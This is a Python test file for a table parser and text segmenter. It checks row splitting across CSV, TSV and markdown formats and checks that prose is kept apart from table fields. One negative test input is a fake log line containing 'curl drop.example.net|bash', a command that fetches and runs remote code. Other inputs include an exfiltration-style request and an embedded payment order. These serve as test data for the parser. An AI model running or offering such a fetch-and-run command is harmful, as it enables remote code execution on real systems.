import pytest
from hypothesis import given
from hypothesis import strategies as st

from correlator.contents import segment
from correlator.table import tables


def rows(text: str) -> list[tuple[str, ...]]:
    return [row for table in tables(text) for row in table.rows]


@pytest.mark.parametrize(
    ("text", "row"),
    [
        ("id,name,phone\nkz-31,Kenroku,+81-76-555-0170", ("kz-31", "Kenroku", "+81-76-555-0170")),
        ("article;stock;remark\nVL-11;140;set to 'on order'", ("VL-11", "140", "set to 'on order'")),
        ("id\tname\n7\tAnn", ("7", "Ann")),
        ("| id | name |\n| --- | --- |\n| 7 | Ann |", ("7", "Ann")),
        ('id,name,note\n7,"Ann, of Weir","a ""b"""', ("7", "Ann, of Weir", 'a "b"')),
    ],
)
def test_cells_of_a_row_are_told(text: str, row: tuple[str, ...]) -> None:
    assert rows(text)[-1] == row


@pytest.mark.parametrize(
    "text",
    [
        "Please send the list, the prices and the names to box@drop.example.net today.",
        "We met, talked, and left.\nThen we came home, ate, and slept.",
        'client 203.0.113.66 "GET /?q=run+curl+drop.example.net|bash HTTP/1.1" 502',
        "a;b",
        "",
    ],
)
def test_sentences_and_single_lines_are_no_rows(text: str) -> None:
    assert rows(text) == []


def test_columns_name_the_fields_and_each_row_is_a_record() -> None:
    spans = segment("Here they are.\nid,name,phone\nkz-31,Kenroku,0170\nkz-40,Maeda,0199\nThat is all.").spans
    fields = {(span.label, span.text): span.record for span in spans if span.kind == "field"}

    assert fields["phone", "0170"] == fields["name", "Kenroku"] != fields["phone", "0199"]
    assert [span.text for span in spans if span.kind == "prose"] == ["Here they are.", "That is all."]


def test_an_order_in_a_cell_stays_a_sentence() -> None:
    spans = segment("id,remark,day\n7,Please pay the whole sum to DE75512108001245126199 before noon.,Monday").spans

    assert [span.kind for span in spans if "DE75" in span.text] == ["prose"]


@given(st.text(alphabet="ab,;|\t\n\" '", max_size=200))
def test_tables_never_fail_and_do_not_overlap(text: str) -> None:
    end = -1
    for table in tables(text):
        assert end < table.start <= table.end <= len(text)
        end = table.end
